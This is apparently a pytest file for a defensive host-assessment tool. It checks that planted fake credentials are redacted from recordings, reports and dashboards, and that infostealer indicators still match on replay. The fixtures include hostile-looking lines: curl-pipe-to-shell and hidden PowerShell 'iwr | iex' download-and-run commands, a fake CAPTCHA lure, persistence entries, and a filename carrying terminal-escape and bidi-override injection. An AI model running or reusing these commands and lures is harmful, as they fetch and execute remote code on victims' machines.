"""No secret leaves the machine: planted markers never reach a recording, report, history, log or screen.

Every secret-bearing source of ``clinicguard/data/secret_files.toml`` gets a
file holding MARKER in a fake home; the recording keeps only what the probes
derive, and replays to the same verdicts.
"""

from __future__ import annotations

import base64
import io
import json
import re
import sys

import pytest

from clinicguard.cli import main
from clinicguard.cli.collect import collect
from clinicguard.collect.secrets import file_source, sources
from clinicguard.engine.runner import run_assessment
from clinicguard.host import ToolMissing
from clinicguard.host.base import CommandResult
from clinicguard.host.replay import RecordedHost
from clinicguard.infostealer.rules import load_rules
from tests.infostealer.test_infostealer_checks import openssh_key
from tests.support.hostile_support import MARKER
from tests.support.infostealer_fixtures import TreeHost, put

HOME = "/home/alice"
B64 = base64.b64encode(MARKER.encode()).decode()
CHECKS = ("malware.exposure", "malware.infostealer", "access.browser_passwords", "backups.backup")


def openssh_unencrypted_with_marker() -> bytes:
    head = openssh_key(b"none").decode()
    return (head.replace("-----END", f"{base64.b64encode(MARKER.encode() * 4).decode()}\n-----END")).encode()


PLANTED = {
    f"{HOME}/.ssh/id_ed25519": openssh_unencrypted_with_marker(),
    f"{HOME}/.ssh/id_ecdsa": f"-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE{MARKER}\n-----END EC PRIVATE KEY-----\n",
    f"{HOME}/.ssh/id_pkcs8": f"-----BEGIN PRIVATE KEY-----\nMC4CAQAw{MARKER}\n-----END PRIVATE KEY-----\n",
    f"{HOME}/.config/filezilla/sitemanager.xml": (
        f"<FileZilla3><Servers><Server><Host>ftp.example</Host><User>{MARKER}</User>"
        f'<Pass encoding="base64">{B64}</Pass></Server></Servers></FileZilla3>'
    ),
    f"{HOME}/.config/filezilla/recentservers.xml": f'<Server><Pass encoding="base64">{B64}</Pass></Server>',
    f"{HOME}/.bash_history": f"ls\nmysql -uroot -p{MARKER}\ncurl -fsSL http://203.0.113.9/i?t={MARKER} | sh\n",
    f"{HOME}/.zsh_history": f": 1700000000:0;export TOKEN={MARKER}\n",
    f"{HOME}/.bashrc": f"export DB_PASSWORD={MARKER}\nalias ll='ls -l'\nnohup ~/.x{MARKER}/agent &\n",
    f"{HOME}/.profile": f"export API_KEY={MARKER}\n",
    f"{HOME}/.config/systemd/user/sync.service": (
        f"[Service]\nEnvironment=API_TOKEN={MARKER}\nExecStart=/usr/bin/restic backup --password {MARKER}\n"
    ),
    f"{HOME}/.config/systemd/user/evil.service": f"[Service]\nExecStart=/tmp/.{MARKER}/run\n",
    f"{HOME}/.config/autostart/upd.desktop": (
        f'[Desktop Entry]\nExec=sh -c "curl -s https://example.invalid/{MARKER} | sh"\n'
    ),
    f"{HOME}/.git-credentials": f"https://alice:{MARKER}@example.invalid\n",
    f"{HOME}/.aws/credentials": f"[default]\naws_secret_access_key={MARKER}\n",
    f"{HOME}/.config/gh/hosts.yml": f"github.com:\n  oauth_token: {MARKER}\n",
    f"{HOME}/Documents/credentials/vpn.txt": MARKER,
    f"{HOME}/.mozilla/firefox/ab.default/logins.json": json.dumps(
        {"logins": [{"hostname": f"https://{MARKER}.example", "encryptedPassword": MARKER}]}
    ),
    f"{HOME}/.mozilla/firefox/profiles.ini": "[Profile0]\nName=default\nIsRelative=1\nPath=ab.default\n",
    f"{HOME}/.config/google-chrome/Local State": json.dumps(
        {"profile": {"info_cache": {"Default": {"gaia_name": MARKER, "user_name": f"{MARKER}@x.fr"}}}}
    ),
}


class FakeHome(TreeHost):
    """A fake home on Linux whose crontab holds a password."""

    def run(self, argv, timeout=10.0, env=None, encoding="utf-8"):  # type: ignore[no-untyped-def]
        if list(argv) == ["crontab", "-l"]:
            stdout = f"0 3 * * * mysqldump -p{MARKER} db > /tmp/db.sql\n@reboot /dev/shm/.s/run\n"
            return CommandResult(tuple(argv), 0, stdout, "")
        raise ToolMissing(argv[0])


@pytest.fixture
def home(tmp_path):  # type: ignore[no-untyped-def]
    for path, data in PLANTED.items():
        put(tmp_path, path, data)
    return FakeHome(tmp_path, "linux")


def statuses(host) -> dict[str, tuple[str, str]]:  # type: ignore[no-untyped-def]
    return {
        r.check_id: (r.status.value, r.summary_key)
        for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results
    }


def test_every_planted_file_belongs_to_a_secret_source():
    for path in PLANTED:
        if not path.endswith("profiles.ini"):
            assert file_source(path) is not None, path


def test_text_rules_of_redacted_sources_have_a_sample_they_match():
    redacted = {name for src in sources()[0] + sources()[1] for name in src.rules}
    for rule in load_rules():
        if (
            rule.kind == "text"
            and rule.source in redacted
            and "linux" in rule.os
            or rule.source in ("shell_history", "ps_history")
            and rule.kind == "text"
        ):
            assert rule.sample and rule.text_hit(rule.sample), rule.id


def test_collect_keeps_no_marker_and_replays_to_the_same_verdicts(home):
    data = collect(home)
    text = json.dumps(data, ensure_ascii=False)
    assert MARKER not in text and B64 not in text
    assert MARKER.lower() not in text.lower()
    live = statuses(home)
    replayed = statuses(RecordedHost(json.loads(text)))
    assert replayed == live
    assert live["malware.exposure"][0] == "FAIL" and live["malware.infostealer"][0] == "FAIL"


def test_collect_replay_of_an_old_recording_with_secrets_scrubs_them(tmp_path):
    rec = {
        "format": "clinicguard-host",
        "version": 1,
        "platform": "linux",
        "hostname": "pc",
        "user": {"name": "alice", "home": HOME},
        "files": {path: {"text": data if isinstance(data, str) else data.decode()} for path, data in PLANTED.items()},
        "commands": [{"argv": ["crontab", "-l"], "returncode": 0, "stdout": f"0 1 * * * x -p{MARKER}\n"}],
    }
    src = tmp_path / "old.json"
    src.write_text(json.dumps(rec), encoding="utf-8")
    out = tmp_path / "new.json"
    assert main(["collect", "--replay", str(src), "--output", str(out)]) == 0
    assert MARKER not in out.read_text(encoding="utf-8")


def test_no_marker_in_reports_history_log_or_screen(home, monkeypatch, tmp_path, _isolated_user_dirs):
    import clinicguard.engine.session as session

    monkeypatch.setattr(session, "make_host", lambda replay=None: home)
    screen = io.StringIO()
    monkeypatch.setattr(sys, "stdout", screen)
    for argv in (["check", "--save", "--verbose"], ["check", "--format", "json"]):
        assert main(argv) in (0, 1)
    outputs = [screen.getvalue()]
    for fmt in ("html", "md", "csv", "json"):
        out = tmp_path / f"report.{fmt}"
        assert main(["report", "--format", fmt, "--output", str(out)]) == 0
        outputs.append(out.read_text(encoding="utf-8"))
    assert main(["history", "--format", "json"]) == 0
    outputs.append(screen.getvalue())
    for path in _isolated_user_dirs.rglob("*"):
        if path.is_file():
            outputs.append(path.read_bytes().decode("utf-8", "replace"))
    for text in outputs:
        assert MARKER not in text and B64 not in text


# Control characters, DEL, C1 controls, bidi overrides and line/paragraph separators: never raw on a page.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
HOSTILE_DOWNLOAD = "crack_\x1b]0;pwned\x07\u202eexe.pdf\x1b[2J.exe"


def pdf_text(path) -> str:  # type: ignore[no-untyped-def]
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(str(path)).pages)


def test_no_marker_nor_raw_control_character_in_the_pdf_report(home, monkeypatch, tmp_path, _isolated_user_dirs):
    """The PDF is checked on its extracted text (pypdf): a marker or an escape sequence would show there."""
    import clinicguard.engine.session as session

    put(tmp_path, f"{HOME}/Downloads/{HOSTILE_DOWNLOAD}", "x")  # the fake home lives in tmp_path
    monkeypatch.setattr(session, "make_host", lambda replay=None: home)
    assert main(["check", "--save"]) in (0, 1)
    out = tmp_path / "report.pdf"
    assert main(["report", "--format", "pdf", "--output", str(out), "--lang", "en"]) == 0
    text = pdf_text(out)
    assert "Downloads" in text and "crack_\\x1b]0;pwned\\x07" in text.replace("\n", "")  # listed, escaped
    assert MARKER not in text and B64 not in text
    assert MARKER.lower() not in text.lower().replace("\n", "")
    assert not RAW_CONTROL.findall(text)


def test_launch_agent_keeps_only_the_indicator_it_matched(tmp_path):
    import plistlib

    from tests.support.infostealer_fixtures import scan

    agent = plistlib.dumps(
        {
            "Label": "com.apple.updater",
            "ProgramArguments": ["/tmp/.u/run", "--token", MARKER],
            "EnvironmentVariables": {"API_KEY": MARKER},
        }
    )
    put(tmp_path, "/Users/alice/Library/LaunchAgents/com.apple.updater.plist", agent)
    host = TreeHost(tmp_path, "macos")
    live = {h.rule for h in scan(host, time_budget=5).hits}
    data = collect(host)
    assert MARKER not in json.dumps(data)
    assert {h.rule for h in scan(RecordedHost(data), time_budget=5).hits} == live
    assert {"mac_launch_apple_label", "mac_launch_user_path"} <= live
    assert all(MARKER not in h.detail for h in scan(host, time_budget=5).hits)


def test_winscp_registry_passwords_keep_presence_only():
    from clinicguard.collect.masking import anonymize

    key = "HKCU\\Software\\Martin Prikryl\\WinSCP 2\\Sessions\\ftp%40srv"
    data = anonymize(
        {
            "format": "clinicguard-host",
            "platform": "windows",
            "hostname": "pc",
            "user": {"name": "x"},
            "registry": {key: {"values": {"Password": MARKER, "HostName": "srv.example"}}},
        }
    )
    (values,) = [e["values"] for e in data["registry"].values()]
    assert values["Password"] == "********" and values["HostName"] == "srv.example"


def test_no_marker_in_the_dashboard_rows_and_details(home):
    from rich.console import Console

    from clinicguard.catalogue import load_catalogue
    from clinicguard.present.wording import Wording
    from clinicguard.tui import render

    assessment = run_assessment(home, check_timeout=30, check_ids=CHECKS)
    for lang in ("fr", "en"):
        wording = Wording(load_catalogue(), lang, "linux")
        for result in assessment.results:
            buf = io.StringIO()
            Console(file=buf, width=120, color_system=None, force_terminal=False).print(render.detail(result, wording))
            assert MARKER not in buf.getvalue() + render.row(result, wording).plain


RUNMRU_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
TYPEDPATHS_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"
TYPED = {
    RUNMRU_KEY: {
        "values": {
            "a": f"mysql -uroot -p{MARKER}\\1",
            "b": f'powershell -w hidden -c "iwr http://x.example/{MARKER} | iex" # I am not a robot - ID {MARKER}\\1',
            "c": f"calc\u2003\u2003\u2003\u2003# {MARKER}\\1",
            "MRUList": "abc",
        }
    },
    TYPEDPATHS_KEY: {
        "values": {
            "url1": f"\\\\{MARKER}.example\\share",
            "url2": f'powershell -c "iwr https://x.example/{MARKER} | iex" # C:\\HR\\{MARKER}.docx',
        }
    },
}


def test_run_box_and_explorer_address_bar_keep_only_the_matched_indicators(tmp_path):
    from tests.support.infostealer_fixtures import rules_hit, scan

    host = TreeHost(tmp_path, "windows", registry={key: entry["values"] for key, entry in TYPED.items()})
    put(tmp_path, "C:/Users/alice/Documents/notes.txt", "x")
    live = rules_hit(scan(host))
    assert {"win_runmru_lolbin", "win_runmru_lure", "win_runmru_padding", "win_typedpaths_filefix"} <= live
    data = collect(host)
    text = json.dumps(data, ensure_ascii=False)
    assert MARKER.lower() not in text.lower()
    replayed = RecordedHost(json.loads(text))
    assert rules_hit(scan(replayed)) == live
    assert {r.check_id: r.status for r in run_assessment(replayed, check_timeout=30, check_ids=CHECKS).results} == {
        r.check_id: r.status for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results
    }


def test_text_rules_of_redacted_registry_values_have_a_sample_that_hits_only_its_own_source():
    from clinicguard.collect.secrets import registry_sources

    typed = {name for src in registry_sources() if src.keep == "indicator_lines" for name in src.rules}
    assert typed == {"runmru", "typedpaths"}
    for rule in load_rules():
        if rule.kind == "text" and rule.source in typed:
            assert rule.sample and rule.text_hit(rule.sample), rule.id
